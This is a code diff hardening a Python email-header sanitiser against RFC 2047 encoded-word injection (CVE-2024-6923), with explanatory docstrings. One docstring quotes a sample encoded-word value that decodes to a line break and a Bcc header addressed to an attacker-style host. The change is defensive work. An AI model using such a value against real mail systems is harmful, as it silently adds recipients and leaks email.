@@ -6,6 +6,8 @@ anyone who can write to the data owner's Drive. Three rules follow:
 * Headers are one line: control characters (CR, LF, TAB, NUL, ...) and line/paragraph separators
   become spaces, invisible format characters (bidi overrides, zero-width joiners, BOM) disappear,
   and the result is capped. Header injection is impossible because no line break survives.
+  Nor can one be decoded into a header later: an RFC 2047 encoded word (``=?utf-8?q?...?=``)
+  gets a space after its ``=`` (see `neutralize_encoded_words`).
 * Bodies keep the text readable but make tricks visible: bidi controls and other invisible format
   characters are shown as ``[U+202E]`` so a reviewer sees a "Trojan Source" attempt instead of
   being fooled by it; other control characters (terminal escapes) are dropped.
@@ -23,6 +25,8 @@ ELLIPSIS = "\u2026"
 
 _ANSI_RE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?")
 _SPACES_RE = re.compile(r"\s+")
+#: What starts an RFC 2047 encoded word; nothing else makes the email package decode a header.
+ENCODED_WORD_START = "=?"
 
 
 def _category(ch: str) -> str:
@@ -48,7 +52,20 @@ def sanitize_header(value: str, *, limit: int = 200) -> str:
         else:
             out.append(ch)
     text = _SPACES_RE.sub(" ", "".join(out)).strip()
-    return truncate(text, limit)
+    # After the removals above: "=\u200b?" must not turn into an opener that stays.
+    return truncate(neutralize_encoded_words(text), limit)
+
+
+def neutralize_encoded_words(text: str) -> str:
+    """`text` with every ``=?`` written ``= ?``, so no part of it is an RFC 2047 encoded word.
+
+    CPython before 3.11.10 and 3.12.5 (CVE-2024-6923) decodes an encoded word while serialising
+    a header and writes what it decodes to as raw header text, CR LF included: a job named
+    ``=?utf-8?q?x=0D=0ABcc=3A_m=40evil.example?=`` would give the email a Bcc recipient. An
+    encoded word cannot contain a space, so one space defeats it on every interpreter and in
+    every mail client, stays readable, and cannot create a new ``=?`` (idempotent).
+    """
+    return text.replace(ENCODED_WORD_START, "= ?")
 
 
 def clean_line(value: str, *, limit: int = 500) -> str:
